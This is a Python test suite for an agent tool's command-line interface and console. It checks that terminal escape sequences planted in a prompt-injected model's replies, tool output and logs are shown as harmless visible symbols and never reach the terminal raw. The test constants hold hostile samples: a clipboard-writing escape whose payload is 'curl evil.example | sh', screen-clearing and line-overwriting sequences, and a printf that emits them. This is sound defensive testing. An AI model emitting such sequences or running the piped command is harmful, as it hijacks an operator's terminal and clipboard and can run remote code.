"""Text a model or a tool produced never drives the operator's terminal.

An agent a prompt injection steers chooses what its model says and what its tools print. Before
the fix choirctl (`chat`, `session events`, `logs`, `approval show`) and the console printed it
raw: `ESC ]52;c;<base64> BEL` wrote the operator's clipboard, `ESC [2J` cleared the screen, a
C1 CSI (`\\x9b`) did the same on 8-bit terminals and `\\r` overwrote what a line seemed to say.

Here a real choird (process runtime) runs agent-1 on a scripted model whose reply, `choir.exec`
output and `choir.propose.tool` rationale all carry those sequences. Every human rendering must
show them (`␛`, `␇`, `\\x9b`) and hold no control character but newline and tab; every `--json`
rendering must be exact JSON that decodes to the very text the model wrote, with no raw control
character either. The console (Textual pilot) is checked on its SVG screenshot of each tab.
"""

from __future__ import annotations

import asyncio
import base64
import json
import re
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from choir.ctl.render.output import json_text
from choir.ctl.render.visible import visible, visible_data, visible_json, visible_line
from choir.home import ChoirHome
from choir.scripted import ReplyStep, Script, ScriptedCall, ScriptedModelServer, ToolCallsStep
from choir.scripted.demo import PROPOSAL, SUMMARY, SUMMARY_REQUEST
from choir.store.postgres.target import ConnectParams
from tests.harness.chat import reply_to
from tests.harness.cluster import serving
from tests.harness.homes import scripted_home
from tests.harness.processes import BIN, environment, run_choirctl
from tests.tui.pilot import console, show_tab, until

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b31m"
OVERWRITE = "safe text\rEVIL"
ESCAPES = f"{CLIPBOARD}{CLEAR}{C1_CSI}{OVERWRITE}"
REPLY = f"here you go {ESCAPES} done"
PRINTF = r"printf 'out \033]52;c;ZXZpbA==\007\033[2J\233m end'"
RATIONALE = f"why {ESCAPES}"
PROPOSED = {**PROPOSAL, "rationale": RATIONALE}

UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
"""What must never reach the terminal: every C0 control but newline and tab, DEL, C1."""


def unsafe_in(text: str) -> list[str]:
    return sorted({repr(c) for c in UNSAFE.findall(text)})


# -- the renderings, pure ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain text, ünïcode ✓", "plain text, ünïcode ✓"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("\x1b[2J", "␛[2J"),
        ("\x1b]52;c;QUJD\x07", "␛]52;c;QUJD␇"),
        ("a\r\nb", "a\nb"),
        ("safe\rEVIL", "safe␍EVIL"),
        ("\x00\x08\x7f", "␀␈␡"),
        ("\x9b31m\x85", "\\x9b31m\\x85"),
    ],
)
def test_visible_shows_every_control_character(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_visible_line_keeps_a_table_cell_on_one_line() -> None:
    assert visible_line("a\nb\x1b") == "a␊b␛"


@given(st.text())
def test_no_text_survives_visible_with_a_control_character(text: str) -> None:
    assert unsafe_in(visible(text)) == []
    assert unsafe_in(visible_line(text).replace("\t", "")) == []


@given(
    st.recursive(
        st.none() | st.integers(-(2**63), 2**63 - 1) | st.text(), lambda kids: st.lists(kids)
    )
)
def test_json_output_is_exact_and_inert(value: Any) -> None:
    data = {"value": value, "text": ESCAPES}
    encoded = json_text(data)
    assert unsafe_in(encoded) == []
    assert json.loads(encoded) == data
    assert visible_json('"\x9b"') == '"\\u009b"'


def test_visible_data_reaches_every_string() -> None:
    shown = visible_data({"a\x1b": ["\x07", {"k": "\x9b"}], "n": 1, "none": None})
    assert shown == {"a␛": ["␇", {"k": "\\x9b"}], "n": 1, "none": None}


# -- a real choird, agent and choirctl --------------------------------------------------------

SCRIPT = Script(
    description="a model and a tool that print terminal escapes",
    steps=[
        ReplyStep(match=SUMMARY_REQUEST, repeat=True, text=SUMMARY),
        ToolCallsStep(
            match="show me escapes",
            calls=[
                ScriptedCall(name="choir.exec", arguments={"command": PRINTF}),
                ScriptedCall(
                    name="choir.propose.tool", arguments={**PROPOSAL, "rationale": RATIONALE}
                ),
            ],
        ),
        ReplyStep(after="tool", repeat=True, text=REPLY),
        ReplyStep(repeat=True, text=REPLY),
    ],
)


@pytest.fixture
async def escaped(root: Path, pg_params: ConnectParams) -> AsyncIterator[tuple[ChoirHome, str]]:
    """choird serving a home whose agent-1 has answered "show me escapes" (the exec ran and
    the proposal is pending); the session id."""
    async with ScriptedModelServer(SCRIPT) as model:
        home = scripted_home(root, pg_params, model.url)
        (root / "ws-other").mkdir(exist_ok=True)
        async with serving(home) as (_, client):
            started = await client.agent_start("agent-1", {"dm": "console"})
            reply = await reply_to(client, "show me escapes")
            assert reply["text"] == REPLY
            yield home, str(started.session_id)


async def choirctl(home: ChoirHome, *args: str) -> str:
    done = await asyncio.to_thread(run_choirctl, home, *args)
    assert done.returncode == 0, done.stderr
    assert unsafe_in(done.stderr) == [], done.stderr
    return done.stdout


def follow_for(home: ChoirHome, seconds: float, *args: str) -> str:
    """What a following choirctl command printed in `seconds` (then it is stopped)."""
    try:
        subprocess.run(
            [str(BIN / "choirctl"), *args],
            env=environment(CHOIR_HOME=str(home.root)),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=seconds,
            check=False,
        )
    except subprocess.TimeoutExpired as stopped:
        out = stopped.stdout
        return out.decode() if isinstance(out, bytes) else (out or "")
    raise AssertionError(f"choirctl {' '.join(args)} ended by itself")


def assert_shown(text: str, *pieces: str) -> None:
    """`text` holds no control character and shows each of `pieces` made visible."""
    assert unsafe_in(text) == [], text
    for piece in pieces:
        assert visible(piece) in text, (piece, text)


@pytest.mark.slow
async def test_choirctl_shows_an_agents_escapes_and_keeps_json_exact(
    escaped: tuple[ChoirHome, str],
) -> None:
    home, session_id = escaped

    said = await choirctl(home, "chat", "agent-1", "again please")
    assert_shown(said, REPLY)
    said_json = await choirctl(home, "chat", "agent-1", "again please", "--json")
    assert unsafe_in(said_json) == []
    assert json.loads(said_json.splitlines()[-1])["text"] == REPLY

    events = await choirctl(home, "session", "events", session_id, "--limit", "1000")
    assert unsafe_in(events) == [], events
    assert "\\u001b]52;c;" in events  # compact JSON payloads: escaped by the encoder
    data = json.loads(await choirctl(home, "session", "events", session_id, "--json"))
    texts = [e["payload"].get("text") for e in data["events"]]
    assert REPLY in texts
    outputs = json.dumps([e["payload"] for e in data["events"]])
    assert "\\u001b]52;c;ZXZpbA==\\u0007" in outputs  # the exec's own bytes, exact in JSON

    followed = await asyncio.to_thread(follow_for, home, 8, "session", "events", session_id, "-f")
    assert REPLY[:5] in followed
    assert unsafe_in(followed) == [], followed

    [approval] = json.loads(await choirctl(home, "approval", "list", "--json"))["approvals"]
    assert approval["payload"]["rationale"] == RATIONALE
    shown = await choirctl(home, "approval", "show", approval["approval_id"])
    assert unsafe_in(shown) == [], shown
    listed = await choirctl(home, "approval", "list")
    assert unsafe_in(listed) == [], listed

    # an agent writes its own log file: a raw line in it reaches the operator as text only
    with (home.logs / "agent-1.log").open("a") as log:
        log.write(f"not json {ESCAPES}\n")
    logged = await choirctl(home, "logs", "agent-1", "--no-follow")
    assert_shown(logged, ESCAPES)
    logged_json = await choirctl(home, "logs", "agent-1", "--no-follow", "--json")
    assert unsafe_in(logged_json) == []
    items = [json.loads(line) for line in logged_json.splitlines()]
    lines = [line for item in items for line in item.get("lines", [])]
    assert f"not json {ESCAPES}" in lines


@pytest.mark.slow
async def test_the_console_shows_an_agents_escapes_on_every_tab(
    escaped: tuple[ChoirHome, str],
) -> None:
    from textual.widgets import DataTable

    from tui.views.chat import ChatView

    home, _ = escaped
    screens: dict[str, str] = {}
    async with console(home) as (app, pilot):
        await until(pilot, lambda: app.state.selected_agent == "agent-1", what="the selection")
        view = app.query_one(ChatView)
        table: DataTable[Any] = app.query_one("#approvals-table", DataTable)
        for tab in ("agents", "lanes", "cores", "events", "approvals", "chat", "logs"):
            await show_tab(pilot, tab)
            if tab == "chat":
                await pilot.press(*"again please", "enter")
                await until(
                    pilot,
                    lambda: any(visible(REPLY) == t for _, t in view.transcripts["agent-1"]),
                    what="the reply",
                )
            if tab == "approvals":
                await until(pilot, lambda: table.row_count == 1, what="the approval")
                table.focus()
                await pilot.press("enter")
            await pilot.pause(0.5)
            screens[tab] = app.export_screenshot()
    for tab, screen in screens.items():
        assert unsafe_in(screen) == [], (tab, unsafe_in(screen))
    assert "␛]52;c;" in screens["chat"]
    assert "␛]52;c;" in screens["events"]
